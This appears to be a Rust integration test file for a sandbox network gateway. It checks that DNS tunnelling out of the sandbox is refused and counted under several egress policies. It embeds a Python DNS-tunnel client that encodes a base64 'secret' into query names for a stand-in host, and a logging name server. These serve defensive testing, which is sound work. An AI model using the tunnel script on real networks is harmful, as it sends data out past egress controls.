//! No look-up is a way out: a name that is not let out is asked of nobody outside, and what it carries is heard by nobody.

use std::{fs, net::Ipv4Addr, path::Path};

use sandbox::agent::gateway::stats::RefusalKind;
use serde_json::{Value, json};

use crate::rig::{Rig, no_forwards, output};

/// A name server that has an address for every name, and writes down each that it hears, over UDP and TCP.
const LISTENER: &str = r"
import socket, struct, sys, threading
heard = open(sys.argv[1], 'ab', 0)
def answered(question):
    at, labels = 12, []
    while question[at]:
        labels.append(question[at + 1:at + 1 + question[at]])
        at += 1 + question[at]
    heard.write(b'.'.join(labels) + b'\n')
    answer = b'\xc0\x0c\0\1\0\1\0\0\0\1\0\4' + bytes([198, 18, 0, 9])
    return question[:2] + b'\x81\x80\0\1\0\1\0\0\0\0' + question[12:at + 5] + answer
def datagrams():
    here = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    here.bind(('0.0.0.0', 53))
    while 1:
        question, client = here.recvfrom(4096)
        here.sendto(answered(question), client)
threading.Thread(target=datagrams, daemon=True).start()
here = socket.create_server(('0.0.0.0', 53))
while 1:
    client, _ = here.accept()
    answer = answered(client.recv(4096)[2:])
    client.sendall(struct.pack('>H', len(answer)) + answer)
";

/// Asks each server named for data under a name that says something, by every kind of record that carries much, over
/// UDP and TCP, and tells each answer.
const TUNNEL: &str = r"
import socket, struct, sys
for server in sys.argv[1:]:
    for kind in (1, 28, 16, 10, 15, 5, 65):
        labels = b''.join(bytes([len(part)]) + part for part in (b'c2VjcmV0', b'%d' % kind, b'tunnel', b'example'))
        question = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>2H', kind, 1)
        for stream in (False, True):
            here = socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM)
            here.settimeout(1)
            try:
                here.connect((server, 53))
                here.sendall(struct.pack('>H', len(question)) + question if stream else question)
                answer = here.recv(4096)[2 if stream else 0:]
                print(server, 'says', answer[3] & 15, 'with', struct.unpack('>H', answer[6:8])[0])
            except OSError as error:
                print(server, 'is silent:', error)
";

/// Where [`Rig::outside`] will be, from the configuration of its gateway.
fn outside_of(config: &Value) -> Ipv4Addr {
    let bridge: Ipv4Addr = config["edge"]["bridge"].as_str().unwrap().parse().unwrap();
    Ipv4Addr::new(198, 18, bridge.octets()[2], 9)
}

fn heard(by: &Path) -> String {
    fs::read_to_string(by).unwrap_or_default()
}

/// Whatever a service asks, and whomever: it learns nothing, and the name server outside hears nothing of it.
fn a_tunnel_of_names_finds_no_answer(egress: Value) -> Rig {
    let folder = tempfile::tempdir().unwrap();
    let record = folder.path().join("heard");
    let mut rig = Rig::with(egress, no_forwards(), |config| {
        config["resolver"] = json!(format!("{}:53", outside_of(config)));
    });
    let outside = rig.outside(&[&["python3", "-u", "-c", LISTENER, record.to_str().unwrap()]]).to_string();
    rig.eventually("the name server outside hears what reaches it", || {
        output("timeout", &["2", "busybox", "nslookup", "control.example", &outside]);
        heard(&record).contains("control.example")
    });

    let gateway = rig.address(66).to_string();
    let host = rig.address(1).to_string();
    let said = rig.in_network_of("web", &["python3", "-c", TUNNEL, &gateway, &outside, &host]);
    let by_itself =
        rig.within("web", "nslookup c2VjcmV0.tunnel.example; nslookup -type=txt more.tunnel.example");

    let answers: Vec<&str> = said.lines().filter(|line| line.contains(" says ")).collect();
    assert_eq!(answers, vec![format!("{gateway} says 3 with 0"); 14], "{said}");
    assert!(!by_itself.contains("198.18.0.9"), "{by_itself}");
    rig.eventually("the names are counted", || {
        rig.refused("web", RefusalKind::Name, "c2vjcmv0.16.tunnel.example")
            && rig.refused("web", RefusalKind::Name, "more.tunnel.example")
    });
    let heard = heard(&record);
    assert!(!heard.contains("tunnel"), "the outside heard {heard}");
    rig
}

#[test]
fn under_deny_a_tunnel_of_names_finds_no_answer_and_is_counted() {
    let rig = a_tunnel_of_names_finds_no_answer(json!("deny"));

    rig.within("web", "nslookup db.");
    assert!(!rig.log().contains(r#""target":"db""#), "a name of the sandbox's own is no refusal");
}

#[test]
fn under_a_list_of_names_a_tunnel_of_other_names_finds_no_answer() {
    a_tunnel_of_names_finds_no_answer(json!(["api.example.com", "*.wild.example"]));
}

#[test]
fn under_a_list_of_addresses_a_tunnel_of_names_finds_no_answer() {
    a_tunnel_of_names_finds_no_answer(json!(["198.18.0.0/16:80"]));
}

#[test]
fn under_a_list_of_names_and_addresses_a_tunnel_of_other_names_finds_no_answer() {
    a_tunnel_of_names_finds_no_answer(json!(["*.wild.example", "198.18.0.0/16:80"]));
}

#[test]
fn a_listed_name_is_looked_up_outside_only_once_it_is_connected_to() {
    let folder = tempfile::tempdir().unwrap();
    let record = folder.path().join("heard");
    let mut rig = Rig::with(json!(["*.wild.example"]), no_forwards(), |config| {
        config["resolver"] = json!(format!("{}:53", outside_of(config)));
    });
    rig.outside(&[&["python3", "-u", "-c", LISTENER, record.to_str().unwrap()]]);

    rig.within("web", "nslookup looked-up.wild.example; nslookup -type=txt looked-up.wild.example");
    rig.eventually("what is connected to is looked up", || {
        rig.web_get("connected.wild.example");
        heard(&record).contains("connected.wild.example")
    });

    assert!(!heard(&record).contains("looked-up"), "{}", heard(&record));
}
